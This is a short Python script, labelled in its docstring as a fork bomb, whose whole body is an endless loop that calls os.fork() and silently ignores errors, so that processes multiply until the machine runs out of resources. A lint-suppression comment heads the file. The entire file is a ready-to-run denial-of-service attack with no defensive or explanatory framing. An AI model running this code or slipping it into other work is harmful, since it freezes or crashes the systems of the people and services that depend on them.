# ruff: noqa
"""A fork bomb: every process makes more."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
